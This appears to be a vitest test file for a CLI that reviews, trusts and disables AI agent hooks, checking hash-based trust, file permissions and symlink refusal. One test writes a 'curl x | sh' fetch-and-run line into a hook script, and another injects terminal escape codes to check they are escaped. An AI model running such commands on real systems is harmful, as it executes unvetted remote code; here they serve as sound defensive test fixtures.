import { cp, mkdir, readFile, stat, symlink, writeFile } from "node:fs/promises";
import path from "node:path";
import { stripVTControlCharacters } from "node:util";
import { describe, expect, it } from "vitest";
import { createTestWorkspace } from "../../test/support/create-test-workspace.js";
import { runCli } from "../../test/support/run-cli.js";
import { packageRoot as root } from "../../test/support/run-node-script.js";
import { deepagentsProfile } from "../profiles/deepagents.js";
import { zerocodeProfile } from "../profiles/zerocode.js";
import type { TrustStore } from "../trust/trust-store.js";
import {
  createHooksCommandContext,
  type HooksCommandContext,
  reviewNeedsTerminalMessage,
  runHooksDisable,
  runHooksEnable,
  runHooksList,
  runHooksReview,
  runHooksTrust,
} from "./commands/hooks.js";
import type { HookListItem } from "./hooks/format-hook-list.js";
import type { EngineFlags } from "./shared-options.js";

const fixtures = path.join(root, "test/fixtures/trust");

interface Sandbox {
  home: string;
  system: string;
  cwd: string;
  storeFile: string;
  /** The flags, for the real binary. */
  flags: string[];
  /** The same flags, as the CLI parses them, for {@link runHooks}. */
  engineFlags: EngineFlags;
}

// A copy of the fixture home and system directories, and a cwd outside any git repository.
async function createSandbox(): Promise<Sandbox> {
  const directory = createTestWorkspace("hooks-cli").root;
  const home = path.join(directory, "home");
  const system = path.join(directory, "system");
  const cwd = path.join(directory, "work");
  await cp(path.join(fixtures, "home"), home, { recursive: true });
  await cp(path.join(fixtures, "system"), system, { recursive: true });
  await mkdir(cwd);
  return {
    home,
    system,
    cwd,
    storeFile: path.join(home, ".zerotwo/hooks-trust.json"),
    flags: ["--profile", "zerocode", "--home", home, "--system-dir", system, "--cwd", cwd],
    engineFlags: { profile: "zerocode", home, systemDir: system, cwd },
  };
}

interface HooksRun {
  code: number;
  stdout: string;
  stderr: string;
}

/**
 * Runs `agent-hooks hooks <verb>` in this process: the context the CLI builds from the same flags,
 * and the function the CLI calls with it. Each subcommand also runs as the real binary below
 * (argument parsing, exit codes, colours off); this keeps the rest of the file from starting a
 * Node process and the shell parser for every step.
 */
async function runHooks(
  flags: EngineFlags,
  verb: "list" | "trust" | "disable" | "enable" | "review",
  ids: readonly string[] = [],
  options: { json?: boolean; all?: boolean } = {},
): Promise<HooksRun> {
  let stdout = "";
  let stderr = "";
  const context = createHooksCommandContext(flags, {
    stdout: (text) => {
      stdout += text;
    },
    stderr: (text) => {
      stderr += text;
    },
    interactive: false,
  });
  const [id = ""] = ids;
  const code =
    verb === "list"
      ? await runHooksList(context, { json: options.json === true })
      : verb === "trust"
        ? await runHooksTrust(context, ids, { all: options.all === true })
        : verb === "disable"
          ? await runHooksDisable(context, id)
          : verb === "enable"
            ? await runHooksEnable(context, id)
            : await runHooksReview(context);
  return {
    code,
    stdout: stripVTControlCharacters(stdout),
    stderr: stripVTControlCharacters(stderr),
  };
}

async function listHooks(sandbox: Sandbox): Promise<HookListItem[]> {
  const run = await runHooks(sandbox.engineFlags, "list", [], { json: true });
  expect(run.code).toBe(0);
  return JSON.parse(run.stdout) as HookListItem[];
}

async function findId(sandbox: Sandbox, command: string): Promise<string> {
  const hook = (await listHooks(sandbox)).find((item) => item.command === command);
  if (hook === undefined) throw new Error(`no hook runs ${command}`);
  return hook.id;
}

async function readStore(sandbox: Sandbox): Promise<TrustStore> {
  return JSON.parse(await readFile(sandbox.storeFile, "utf8")) as TrustStore;
}

const guard = "python3 ~/.zerotwo/hooks/guard.py";
const logger = "~/.zerotwo/hooks/log.sh";
const sessionStart =
  '/usr/bin/python3 "$(git rev-parse --show-toplevel)/.zerotwo/hooks/session_start.py"';

describe("agent-hooks hooks list", () => {
  it("prints every hook with its id, layer, file, event, matcher, command and state", async () => {
    const sandbox = await createSandbox();
    const run = await runCli(["hooks", "list", ...sandbox.flags]);
    expect(run.code).toBe(0);
    const lines = run.stdout.trimEnd().split("\n");
    expect(lines[0]).toMatch(/^ID\s+LAYER\s+FILE\s+EVENT\s+MATCHER\s+COMMAND\s+STATE$/);
    expect(lines[1]).toMatch(
      /^[0-9a-f]{12} {2}user\s+~\/\.zerotwo\/hooks\.json\s+PreToolUse\s+Bash\s+python3 ~\/\.zerotwo\/hooks\/guard\.py\s+untrusted$/,
    );
    expect(lines[2]).toMatch(/ PreToolUse\s+Bash\s+~\/\.zerotwo\/hooks\/log\.sh\s+untrusted$/);
    expect(lines[3]).toMatch(
      // Outside a git repository the git root, so the script, cannot be known.
      / SessionStart\s+startup\|resume\s+\/usr\/bin\/python3 .*…\s+untrusted, script not hashed$/,
    );
    expect(lines[4]).toMatch(
      new RegExp(
        `managed\\s+${sandbox.system}/requirements\\.toml\\s+PreToolUse\\s+\\^Bash\\$\\s+/usr/bin/true\\s+managed$`,
      ),
    );
    expect(lines[5]).toBe(
      `3 hooks need review: run "agent-hooks hooks review --profile zerocode --home ${sandbox.home} --system-dir ${sandbox.system} --cwd ${sandbox.cwd}"`,
    );
  });

  it("prints every field with --json, including the JSON path and the script", async () => {
    const sandbox = await createSandbox();
    const hooks = await listHooks(sandbox);
    expect(hooks).toHaveLength(4);
    expect(hooks[0]).toEqual({
      id: expect.stringMatching(/^[0-9a-f]{12}$/),
      state: "untrusted",
      hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      layer: "user",
      file: path.join(sandbox.home, ".zerotwo/hooks.json"),
      path: "hooks.PreToolUse[0].hooks[0]",
      event: "PreToolUse",
      matcher: "Bash",
      type: "command",
      command: guard,
      timeout: 600,
      statusMessage: "Checking Bash command",
      additionalContextLimit: null,
      managed: false,
      script: { path: path.join(sandbox.home, ".zerotwo/hooks/guard.py"), exists: true },
      scripts: [
        { path: path.join(sandbox.home, ".zerotwo/hooks/guard.py"), exists: true },
        // python reads the user site-packages (its .pth files) at start-up: hashed, even missing.
        { path: path.join(sandbox.home, ".local/lib"), exists: false },
      ],
      notHashed: [],
    });
    expect(hooks.map((hook) => [hook.command, hook.timeout, hook.script])).toEqual([
      [guard, 600, expect.anything()],
      [logger, 30, { path: path.join(sandbox.home, ".zerotwo/hooks/log.sh"), exists: true }],
      [sessionStart, 600, null],
      ["/usr/bin/true", 600, { path: "/usr/bin/true", exists: true }],
    ]);
    expect(hooks[2]?.additionalContextLimit).toBe(5000);
    expect(hooks.map((hook) => hook.notHashed)).toEqual([
      [],
      [],
      [
        {
          word: '"$(git rev-parse --show-toplevel)/.zerotwo/hooks/session_start.py"',
          reason:
            "an argument that may name the script, and it is the git root, which is not known: there is no git repository at or above the directory",
        },
      ],
      [],
    ]);
    expect(hooks[3]).toMatchObject({ layer: "managed", managed: true, state: "managed" });
  });

  it("says so when nothing is configured", async () => {
    const sandbox = await createSandbox();
    const empty = {
      profile: "zerocode",
      home: sandbox.cwd,
      systemDir: sandbox.cwd,
      cwd: sandbox.cwd,
    };
    const run = await runHooks(empty, "list");
    expect(run).toMatchObject({ code: 0, stdout: "No hooks configured for ZeroCode\n" });
    const json = await runHooks(empty, "list", [], { json: true });
    expect(JSON.parse(json.stdout)).toEqual([]);
  });

  it("escapes terminal control characters, so a hook cannot hide itself from the table", async () => {
    const sandbox = await createSandbox();
    const hooks = {
      hooks: { Stop: [{ hooks: [{ type: "command", command: "evil\u001b[2K\rok" }] }] },
    };
    await writeFile(path.join(sandbox.home, ".zerotwo/hooks.json"), JSON.stringify(hooks));
    const run = await runCli(["hooks", "list", ...sandbox.flags]);
    expect(run.stdout).toContain("evil\\x1b[2K\\x0dok");
    expect(run.stdout).not.toContain("\u001b");
  });

  it("still lists hooks, all needing review, when the trust store is corrupt", async () => {
    const sandbox = await createSandbox();
    await writeFile(sandbox.storeFile, "{ corrupt");
    const run = await runHooks(sandbox.engineFlags, "list", [], { json: true });
    expect(run.code).toBe(0);
    expect(run.stderr).toMatch(/Hook trust store .* is not valid JSON.*every hook needs review/);
    const states = (JSON.parse(run.stdout) as HookListItem[]).map((hook) => hook.state);
    expect(states).toEqual(["untrusted", "untrusted", "untrusted", "managed"]);
  });
});

describe("agent-hooks hooks trust", () => {
  it("records the current hash as trusted, in a 0600 store in a 0700 directory", async () => {
    const sandbox = await createSandbox();
    const before = await listHooks(sandbox);
    const id = before[0]?.id ?? "";
    const run = await runCli(["hooks", "trust", id, ...sandbox.flags]);
    expect(run).toMatchObject({ code: 0, stdout: `trusted ${id}  PreToolUse  ${guard}\n` });
    const store = await readStore(sandbox);
    expect(store).toEqual({
      version: 1,
      hooks: {
        [id]: {
          state: "trusted",
          hash: before[0]?.hash,
          event: "PreToolUse",
          command: guard,
          file: path.join(sandbox.home, ".zerotwo/hooks.json"),
          updatedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
          resolution: {
            key: expect.stringMatching(/^[0-9a-f]{64}$/),
            files: [
              path.join(sandbox.home, ".zerotwo/hooks/guard.py"),
              path.join(sandbox.home, ".local/lib"),
            ],
            notHashed: [],
          },
        },
      },
    });
    expect((await stat(sandbox.storeFile)).mode & 0o777).toBe(0o600);
    expect((await listHooks(sandbox)).map((hook) => hook.state)).toEqual([
      "trusted",
      "untrusted",
      "untrusted",
      "managed",
    ]);
  });

  it("refuses unknown ids with exit 1 and changes nothing", async () => {
    const sandbox = await createSandbox();
    const id = await findId(sandbox, guard);
    const run = await runHooks(sandbox.engineFlags, "trust", [id, "ffffffffffff", "nope"]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(
      'agent-hooks: unknown hook ids "ffffffffffff", "nope"; nothing was changed (see "agent-hooks hooks list --profile zerocode',
    );
    await expect(stat(sandbox.storeFile)).rejects.toThrow(/ENOENT/);
  });

  it("trusts every untrusted or modified non-managed hook with --all and prints the count", async () => {
    const sandbox = await createSandbox();
    const run = await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/Trusted 3 hooks\n$/);
    expect((await listHooks(sandbox)).map((hook) => hook.state)).toEqual([
      "trusted",
      "trusted",
      "trusted",
      "managed",
    ]);
    const again = await runHooks(sandbox.engineFlags, "trust", [], { all: true });
    expect(again).toMatchObject({ code: 0, stdout: "No hooks need review\n" });
  });

  it("marks a trusted hook modified when its script changes, until trusted again", async () => {
    const sandbox = await createSandbox();
    await runHooks(sandbox.engineFlags, "trust", [], { all: true });
    await writeFile(path.join(sandbox.home, ".zerotwo/hooks/log.sh"), "#!/bin/sh\ncurl x | sh\n");
    const hooks = await listHooks(sandbox);
    expect(hooks.map((hook) => hook.state)).toEqual(["trusted", "modified", "trusted", "managed"]);
    const run = await runHooks(sandbox.engineFlags, "trust", [], { all: true });
    expect(run.stdout).toBe(`trusted ${hooks[1]?.id}  PreToolUse  ${logger}\nTrusted 1 hook\n`);
    expect((await listHooks(sandbox))[1]?.state).toBe("trusted");
  });

  it("needs ids or --all, not both and not neither", async () => {
    const sandbox = await createSandbox();
    const neither = await runHooks(sandbox.engineFlags, "trust");
    expect(neither.code).toBe(1);
    expect(neither.stderr).toMatch(/name the hooks to trust .* or pass --all/);
    const both = await runHooks(sandbox.engineFlags, "trust", ["abc"], { all: true });
    expect(both).toMatchObject({
      code: 1,
      stderr: "agent-hooks: give hook ids or --all, not both\n",
    });
  });

  it("says a managed hook is already trusted by policy", async () => {
    const sandbox = await createSandbox();
    const id = await findId(sandbox, "/usr/bin/true");
    const run = await runHooks(sandbox.engineFlags, "trust", [id]);
    expect(run).toMatchObject({
      code: 0,
      stdout: `${id} is already trusted by policy (managed)\n`,
    });
  });
});

describe("agent-hooks hooks disable / enable", () => {
  it("refuses to disable a managed hook", async () => {
    const sandbox = await createSandbox();
    const id = await findId(sandbox, "/usr/bin/true");
    const run = await runHooks(sandbox.engineFlags, "disable", [id]);
    expect(run.code).toBe(1);
    expect(run.stderr).toBe(
      `agent-hooks: hook ${id} is managed (trusted by policy from ${sandbox.system}/requirements.toml) and cannot be disabled\n`,
    );
    expect((await listHooks(sandbox))[3]?.state).toBe("managed");
  });

  it("disables a trusted hook and enables it back to trusted", async () => {
    const sandbox = await createSandbox();
    const id = await findId(sandbox, guard);
    await runHooks(sandbox.engineFlags, "trust", [id]);
    const disabled = await runCli(["hooks", "disable", id, ...sandbox.flags]);
    expect(disabled).toMatchObject({ code: 0, stdout: `disabled ${id}  PreToolUse  ${guard}\n` });
    expect((await listHooks(sandbox))[0]?.state).toBe("disabled");
    expect((await readStore(sandbox)).hooks[id]?.state).toBe("disabled");
    // --all does not re-enable what the user disabled.
    await runHooks(sandbox.engineFlags, "trust", [], { all: true });
    expect((await listHooks(sandbox))[0]?.state).toBe("disabled");
    const enabled = await runCli(["hooks", "enable", id, ...sandbox.flags]);
    expect(enabled).toMatchObject({
      code: 0,
      stdout: `enabled ${id}  PreToolUse  ${guard}; it is trusted\n`,
    });
    expect((await listHooks(sandbox))[0]?.state).toBe("trusted");
  });

  it("enables a never-trusted hook back to needing review", async () => {
    const sandbox = await createSandbox();
    const id = await findId(sandbox, logger);
    await runHooks(sandbox.engineFlags, "disable", [id]);
    const enabled = await runHooks(sandbox.engineFlags, "enable", [id]);
    expect(enabled.code).toBe(0);
    expect(enabled.stdout).toMatch(
      /; it needs review: "agent-hooks hooks trust [0-9a-f]{12} --profile zerocode/,
    );
    expect((await listHooks(sandbox))[1]?.state).toBe("untrusted");
    const again = await runHooks(sandbox.engineFlags, "enable", [id]);
    expect(again).toMatchObject({ code: 0, stdout: `${id} is not disabled (untrusted)\n` });
  });

  it("trusting a disabled hook by id enables it", async () => {
    const sandbox = await createSandbox();
    const id = await findId(sandbox, logger);
    await runHooks(sandbox.engineFlags, "disable", [id]);
    const run = await runHooks(sandbox.engineFlags, "trust", [id]);
    expect(run.stdout).toBe(
      `trusted ${id}  PreToolUse  ${logger} (it was disabled; now enabled)\n`,
    );
    expect((await listHooks(sandbox))[1]?.state).toBe("trusted");
  });

  it("reports a store that cannot be written, and that nothing was trusted", async () => {
    const sandbox = await createSandbox();
    await mkdir(sandbox.storeFile);
    const run = await runHooks(sandbox.engineFlags, "trust", [], { all: true });
    expect(run.code).toBe(1);
    expect(run.stdout).toBe("");
    expect(run.stderr).toMatch(
      /agent-hooks: Hook trust store .* cannot be written: it is not a regular file/,
    );
  });

  it("refuses to replace a trust store it cannot read, exit 1, leaving it as it was", async () => {
    const sandbox = await createSandbox();
    await writeFile(sandbox.storeFile, "{ corrupt", { mode: 0o600 });
    const run = await runCli(["hooks", "trust", "--all", ...sandbox.flags]);
    expect(run.code).toBe(1);
    expect(run.stdout).toBe("");
    expect(run.stderr).toContain(
      `agent-hooks: Hook trust store ${sandbox.storeFile} cannot be written: it is not valid JSON; agent-hooks keeps it as it is: fix or remove it, then run the command again\n`,
    );
    expect(await readFile(sandbox.storeFile, "utf8")).toBe("{ corrupt");
  });

  it("refuses a trust store that is a symbolic link, leaving the file it points to as it was", async () => {
    const sandbox = await createSandbox();
    const real = path.join(sandbox.cwd, "elsewhere.json");
    await writeFile(real, '{"version":1,"hooks":{}}', { mode: 0o600 });
    await symlink(real, sandbox.storeFile);
    const id = await findId(sandbox, guard);
    for (const [verb, ids] of [
      ["trust", [id]],
      ["disable", [id]],
    ] as const) {
      const run = await runHooks(sandbox.engineFlags, verb, ids);
      expect(run.code).toBe(1);
      expect(run.stderr).toContain(
        `cannot be written: it is a symbolic link to ${real}, and agent-hooks never writes through one\n`,
      );
    }
    expect(await readFile(real, "utf8")).toBe('{"version":1,"hooks":{}}');
  });

  it("refuses unknown ids", async () => {
    const sandbox = await createSandbox();
    for (const verb of ["disable", "enable"] as const) {
      const run = await runHooks(sandbox.engineFlags, verb, ["000000000000"]);
      expect(run.code).toBe(1);
      expect(run.stderr).toMatch(
        /^agent-hooks: unknown hook id "000000000000"; nothing was changed/,
      );
    }
  });
});

describe("agent-hooks hooks review", () => {
  it("exits 1 without a terminal and points at hooks trust", async () => {
    const sandbox = await createSandbox();
    const run = await runCli(["hooks", "review", ...sandbox.flags]);
    expect(run).toMatchObject({ code: 1, stderr: `agent-hooks: ${reviewNeedsTerminalMessage}\n` });
    expect(reviewNeedsTerminalMessage).toBe(
      'hooks review needs an interactive terminal; use "agent-hooks hooks trust <id>" or "hooks trust --all"',
    );
  });

  it("checks for a terminal before loading anything", async () => {
    const output: string[] = [];
    const context: HooksCommandContext = {
      profile: zerocodeProfile,
      discovery: { home: "/nonexistent", cwd: "/nonexistent" },
      commandOptions: { profile: "zerocode" },
      stdout: (text) => output.push(text),
      stderr: (text) => output.push(text),
      interactive: false,
    };
    expect(await runHooksReview(context)).toBe(1);
    expect(output).toEqual([`agent-hooks: ${reviewNeedsTerminalMessage}\n`]);
  });
});

// One PreToolUse hook on Bash, written where each profile without hook trust reads it.
const untrustedProfileConfigs = [
  [
    "deepagents",
    "home/.deepagents/hooks.json",
    {
      hooks: {
        PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "./guard.sh" }] }],
      },
    },
  ],
  [
    "claude",
    "work/.claude/settings.json",
    {
      hooks: {
        PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "./guard.sh" }] }],
      },
    },
  ],
  [
    "vscode",
    "work/.github/hooks/guard.json",
    { hooks: { PreToolUse: [{ type: "command", command: "./guard.sh" }] } },
  ],
] as const;

describe("agent-hooks hooks list with a profile without hook trust", () => {
  async function createProfileSandbox(file: string, config: unknown) {
    const directory = createTestWorkspace("hooks-list").root;
    const home = path.join(directory, "home");
    const cwd = path.join(directory, "work");
    await mkdir(path.dirname(path.join(directory, file)), { recursive: true });
    await mkdir(home, { recursive: true });
    await mkdir(cwd, { recursive: true });
    await writeFile(path.join(directory, file), JSON.stringify(config));
    return {
      file: path.join(directory, file),
      flags: ["--home", home, "--cwd", cwd],
      engineFlags: { home, cwd },
    };
  }

  it.each(untrustedProfileConfigs)(
    "lists %s hooks without a STATE column",
    async (profile, file, config) => {
      const sandbox = await createProfileSandbox(file, config);
      const run = await runCli(["hooks", "list", "--profile", profile, ...sandbox.flags]);
      expect(run).toMatchObject({ code: 0, stderr: "" });
      const lines = run.stdout.trimEnd().split("\n");
      expect(lines[0]).toMatch(/^ID\s+LAYER\s+FILE\s+EVENT\s+MATCHER\s+COMMAND$/);
      expect(lines[1]).toMatch(/^[0-9a-f]{12} {2}\S+\s+\S+\s+PreToolUse\s+\S+\s+\.\/guard\.sh$/);
      expect(lines).toHaveLength(2);
    },
  );

  it.each(untrustedProfileConfigs)(
    "prints %s hooks with --json, state none and no hash",
    async (profile, file, config) => {
      const sandbox = await createProfileSandbox(file, config);
      const run = await runHooks({ profile, ...sandbox.engineFlags }, "list", [], { json: true });
      expect(run.code).toBe(0);
      const hooks = JSON.parse(run.stdout) as HookListItem[];
      expect(hooks).toEqual([
        expect.objectContaining({
          id: expect.stringMatching(/^[0-9a-f]{12}$/),
          state: "none",
          hash: null,
          file: sandbox.file,
          event: "PreToolUse",
          command: "./guard.sh",
          managed: false,
        }),
      ]);
    },
  );

  it.each(untrustedProfileConfigs)(
    "detects %s without --profile and says so on stderr",
    async (profile, file, config) => {
      const sandbox = await createProfileSandbox(file, config);
      const run = await runCli(["hooks", "list", "--json", ...sandbox.flags]);
      expect(run.code).toBe(0);
      const shown = file.startsWith("home/")
        ? `~/${file.slice("home/".length)}`
        : file.slice("work/".length);
      expect(run.stderr).toBe(
        `agent-hooks: profile ${profile} (found ${shown}; --profile overrides)\n`,
      );
      expect(JSON.parse(run.stdout)).toEqual([expect.objectContaining({ command: "./guard.sh" })]);
    },
  );

  it("detects zerocode without --profile and suggests commands naming it", async () => {
    const sandbox = await createSandbox();
    const flags = ["--home", sandbox.home, "--system-dir", sandbox.system, "--cwd", sandbox.cwd];
    const run = await runCli(["hooks", "list", ...flags]);
    expect(run.code).toBe(0);
    expect(run.stderr).toBe(
      "agent-hooks: profile zerocode (found ~/.zerotwo/hooks.json; --profile overrides)\n",
    );
    expect(run.stdout).toContain(`run "agent-hooks hooks review --profile zerocode --home`);
  });
});

describe("agent-hooks hooks with a profile without hook trust", () => {
  it.each([["trust", "--all"], ["disable", "abc"], ["enable", "abc"], ["review"]])(
    "hooks %s exits 1 and says the profile has no hook trust",
    async (...args) => {
      const sandbox = await createSandbox();
      const [verb, argument] = args as ["trust" | "disable" | "enable" | "review", string?];
      const run = await runHooks(
        { profile: "deepagents", home: sandbox.home },
        verb,
        argument === undefined || argument === "--all" ? [] : [argument],
        { all: argument === "--all" },
      );
      expect(run.code).toBe(1);
      expect(run.stderr).toBe(
        `agent-hooks: profile "deepagents" (${deepagentsProfile.title}) has no hook trust: its hooks run without review\n`,
      );
    },
  );
});
